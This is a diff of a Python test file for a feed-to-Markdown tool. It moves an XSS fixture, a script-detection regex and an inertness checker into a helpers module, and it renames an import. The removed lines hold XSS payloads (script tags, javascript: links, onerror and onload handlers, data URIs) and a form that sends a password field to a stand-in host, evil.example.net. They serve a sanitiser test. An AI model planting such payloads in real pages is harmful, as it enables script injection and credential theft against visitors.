@@ -8,50 +8,9 @@ import json
 import re
 
 from bs4 import BeautifulSoup
-from feedserver import Response, atom
-from test_pull_fetch import one_entry
 
-XSS = """
-<p>Intro <b>bold</b> text.</p>
-<script>alert('script')</script>
-<style>body { background: url(javascript:alert(1)) }</style>
-<p onclick="alert('click')" style="width: expression(alert(1))">Handlers</p>
-<a href="javascript:alert('href')">js link</a>
-<a href="JaVaScRiPt:alert(1)">mixed case</a>
-<a href="vbscript:msgbox(1)">vb</a>
-<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
-<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="data img">
-<img src="x" onerror="alert('img')" alt="onerror img">
-<svg onload="alert(1)"><circle r="1"/></svg>
-<iframe src="https://evil.example.net/frame"></iframe>
-<iframe src="https://www.youtube.com/embed/abc123"></iframe>
-<object data="https://evil.example.net/x.swf"></object>
-<embed src="https://evil.example.net/x.swf">
-<form action="https://evil.example.net/steal"><input name="pw"><button>Go</button></form>
-<meta http-equiv="refresh" content="0;url=https://evil.example.net/">
-<base href="https://evil.example.net/">
-<p>&lt;script&gt;alert('escaped text')&lt;/script&gt;</p>
-<pre>```
-&lt;script&gt;alert('fence')&lt;/script&gt;
-```</pre>
-<a href="https://ok.example.com/x)<img src=x onerror=alert(1)>">paren breakout</a>
-"""
-
-SCRIPT_CAPABLE = re.compile(r"<script|<style|<iframe|<object|<embed|<form|<svg|<meta|<base\b|"
-                            r"javascript:|vbscript:|data:text|expression\(|\son\w+\s*=", re.I)
-
-
-def assert_inert(html: str) -> None:
-    """No script-capable construct in the HTML fragment."""
-    soup = BeautifulSoup(html, "html.parser")
-    for tag in soup.find_all(True):
-        assert tag.name not in {"script", "style", "iframe", "object", "embed", "form", "svg", "meta",
-                                "base", "input", "button", "applet", "frame", "link"}, tag
-        for attr, value in tag.attrs.items():
-            assert not attr.lower().startswith("on"), tag
-            assert attr.lower() != "style", tag
-            if attr in ("href", "src"):
-                assert re.match(r"^(https?:|mailto:|/|\.|#)", value) or value == "", tag
+from feedserver import Response, atom, one_entry
+from helpers import SCRIPT_CAPABLE, XSS, assert_inert
 
 
 def test_hostile_html_is_made_inert_in_markdown_and_site(site, feeds):
@@ -311,8 +270,8 @@ def test_a_ledger_with_hashes_of_the_older_scheme_is_adopted_quietly(site, feeds
     title and the whole Markdown. A re-pull over such a ledger neither rewrites posts nor
     reports edited ones as changed upstream, and still knows an entry without an id by
     that older hash when its permalink changes."""
-    from eminence_feeds.convert import html_to_markdown
-    from eminence_feeds.parse import text_hash
+    from eminence_pull.convert import html_to_markdown
+    from eminence_pull.parse import text_hash
 
     entries = [one_entry(1), one_entry(2, id=None), one_entry(3)]
     url = feeds.add("/cy.xml", Response(atom(entries)))
